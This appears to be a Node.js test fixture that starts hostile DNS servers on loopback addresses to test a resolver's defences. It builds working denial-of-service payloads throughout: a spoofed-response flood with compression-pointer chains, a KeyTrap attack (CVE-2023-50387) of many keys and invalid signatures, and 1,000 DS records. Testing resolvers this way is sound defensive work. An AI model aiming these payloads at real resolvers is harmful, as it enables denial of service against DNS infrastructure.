/**
 * A process with hostile servers on loopback addresses that share a port. Its arguments are the
 * attack and the number of servers. It tells its parent when they listen, and ends with it.
 *
 * - `flood` repeats the right id with another question and costly names. It is silent over TCP.
 * - `keyTrap` has 16 keys with nine bad signatures each, others at each server (CVE-2023-50387).
 * - `manyDs` has 1,000 DS records, others at each server.
 */
import { generateKeyPairSync, randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { keyTag } from "../../dist/provider/dnssec/dnskey.js";

const [attack, servers] = [process.argv[2], Number(process.argv[3])];

const pointer = (to) => Buffer.of(0xc0 | (to >> 8), to & 0xff);
const toQuestion = pointer(12);

function record(owner, type, rdata) {
  const fixed = Buffer.alloc(10);
  fixed.writeUInt16BE(type, 0);
  fixed.writeUInt16BE(1, 2);
  fixed.writeUInt32BE(300, 4);
  fixed.writeUInt16BE(rdata.length, 8);
  return Buffer.concat([owner, fixed, rdata]);
}

/** Returns the end of the question in a query. The question begins with its name. */
function endOfQuestion(query) {
  let offset = 12;
  while (query[offset] !== 0) offset += 1 + query[offset];
  return offset + 5;
}

function answer(query, records, { truncated = false } = {}) {
  const end = endOfQuestion(query);
  const message = Buffer.concat([query.subarray(0, end), ...(truncated ? [] : records)]);
  message.writeUInt16BE(truncated ? 0x8600 : 0x8400, 2);
  [1, truncated ? 0 : records.length, 0, 0].forEach((count, index) =>
    message.writeUInt16BE(count, 4 + 2 * index),
  );
  return message;
}

/** 1,000 owners of 127 pointers. */
function floodRecords(query) {
  const rdataAt = endOfQuestion(query) + 12;
  const chain = [Buffer.of(0), pointer(rdataAt)];
  for (let index = 1; index < 1_100; index += 1) chain.push(pointer(rdataAt + 2 * index - 1));
  const owners = Array.from({ length: 1_000 }, (_, index) =>
    record(pointer(rdataAt + 247 + 2 * (index % 3)), 48, Buffer.alloc(0)),
  );
  return [record(toQuestion, 0xff00, Buffer.concat(chain)), ...owners];
}

function flood(query, send) {
  const message = answer(query, floodRecords(query));
  message[13] ^= 1; // Changes the name.
  const until = Date.now() + 8_000;
  const timer = setInterval(() => {
    send(message);
    if (Date.now() > until) clearInterval(timer);
  }, 10);
  timer.unref();
}

const keys = Array.from({ length: 16 }, () => {
  const asDer = {
    publicKeyEncoding: { type: "spki", format: "der" },
    privateKeyEncoding: { type: "pkcs8", format: "der" },
  };
  // The point is at the end, after the octet with its encoding.
  const publicKey = generateKeyPairSync("ec", { namedCurve: "P-384", ...asDer }).publicKey.subarray(-96);
  return { rdata: Buffer.concat([Buffer.of(1, 1, 3, 14), publicKey]), publicKey };
});

function keyTrapRecords(query) {
  const name = query.subarray(12, endOfQuestion(query) - 4);
  const now = Math.floor(Date.now() / 1000);
  const signatures = keys.flatMap(({ publicKey }) =>
    Array.from({ length: 9 }, () => {
      const fixed = Buffer.alloc(18);
      fixed.writeUInt16BE(48, 0);
      fixed.set([14, 2], 2);
      fixed.writeUInt32BE(300, 4);
      fixed.writeUInt32BE(now + 86_400, 8);
      fixed.writeUInt32BE(now - 3_600, 12);
      const dnskey = { flags: 257, protocol: 3, algorithm: 14, publicKey: publicKey.toString("base64") };
      fixed.writeUInt16BE(keyTag(dnskey), 16);
      return record(toQuestion, 46, Buffer.concat([fixed, name, randomBytes(96)]));
    }),
  );
  return [...keys.map(({ rdata }) => record(toQuestion, 48, rdata)), ...signatures];
}

function dsRecords() {
  return Array.from({ length: 1_000 }, (_, index) =>
    record(
      toQuestion,
      43,
      Buffer.concat([Buffer.of((1_000 + index) >> 8, (1_000 + index) & 0xff, 13, 2), randomBytes(32)]),
    ),
  );
}

const recordsOf = { keyTrap: keyTrapRecords, manyDs: dsRecords };

function overUdp(query, send) {
  if (attack === "flood") flood(query, send);
  else send(answer(query, [], { truncated: true }));
}

function overTcp(query, socket) {
  if (attack === "flood") return;
  const message = answer(query, recordsOf[attack](query));
  const length = Buffer.alloc(2);
  length.writeUInt16BE(message.length);
  socket.write(Buffer.concat([length, message]));
}

let port = 0;
const all = [];
for (let index = 0; index < servers; index += 1) {
  const address = `127.0.1.${index + 1}`;
  const stream = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (data) => overTcp(data.subarray(2), socket));
  });
  await new Promise((resolve) => stream.listen(port, address, resolve));
  port = stream.address().port;
  const datagrams = createSocket("udp4");
  datagrams.on("error", () => {});
  datagrams.on("message", (query, { address: to, port: at }) =>
    overUdp(query, (message) => datagrams.send(message, at, to, () => {})),
  );
  await new Promise((resolve) => datagrams.bind(port, address, resolve));
  all.push(`${address}:${port}`);
}
process.on("disconnect", () => process.exit());
process.send({ servers: all, keys: keys.map(({ publicKey }) => `257 3 14 ${publicKey.toString("base64")}`) });
